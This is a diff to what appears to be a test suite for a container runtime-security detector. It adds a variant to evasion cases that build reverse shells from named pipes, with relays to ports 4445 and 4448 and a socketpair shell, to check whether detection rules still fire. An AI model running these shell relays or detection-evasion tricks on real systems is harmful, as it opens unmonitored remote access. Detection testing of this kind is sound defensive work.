@@ -40,7 +40,7 @@ METADATA_RULE = "Contact cloud metadata service from container"
 SETID = "Set setuid or setgid bit"
 FIFO_RELAY = ("mkfifo /tmp/in /tmp/out; {prog} < /tmp/in > /tmp/out &"
               f" /usr/bin/cauditd_evade fifo-relay /tmp/in /tmp/out {NOWHERE} 4445"
-              " {fork} < /dev/null > /dev/null")
+              " {how} < /dev/null > /dev/null")
 URING_LISTENER = ("mkfifo /tmp/f; /usr/bin/cauditd_evade uring-accept 4448 < /tmp/f"
                   " | {prog} > /tmp/f")
 READ_HOSTNAME = "/usr/bin/cauditd_evade read /etc/hostname"
@@ -198,12 +198,14 @@ EVASIONS = [
             exec_asked("/bin/cat")),
     # a relay whose own stdio is on no pipe: it opens the shell's FIFOs by path
     # ... and a child of it that holds them only by inheritance connects
-    *(Evasion(f"relay-opening-the-fifos{fork and '-then-forking'}", "Reverse shell through pipes",
-              sh(FIFO_RELAY.format(prog="/bin/sh", fork=fork)), "container.image", TEST_IMAGE,
-              sh(FIFO_RELAY.format(prog="/bin/cat", fork=fork)),
+    # ... or it moves them past fd 63 and execs the program that connects
+    *(Evasion(f"relay-opening-the-fifos{suffix}", "Reverse shell through pipes",
+              sh(FIFO_RELAY.format(prog="/bin/sh", how=how)), "container.image", TEST_IMAGE,
+              sh(FIFO_RELAY.format(prog="/bin/cat", how=how)),
               execd("/usr/bin/cauditd_evade", "fifo-relay", "/tmp/in", "/tmp/out", NOWHERE,
-                    "4445", *fork.split()))
-      for fork in ("", "fork")),
+                    "4445", *how.split()))
+      for how, suffix in (("", ""), ("fork", "-then-forking"),
+                          ("high", "-then-exec-with-them-past-fd-63"))),
     # a relay through a socketpair (socat EXEC): the shell's stdio is a unix socket
     Evasion("relay-through-a-socketpair", "Shell started with a network socket on its stdio",
             evade("socketpair-exec", "listen", "/bin/sh"), "proc.stdin.type", "unix",
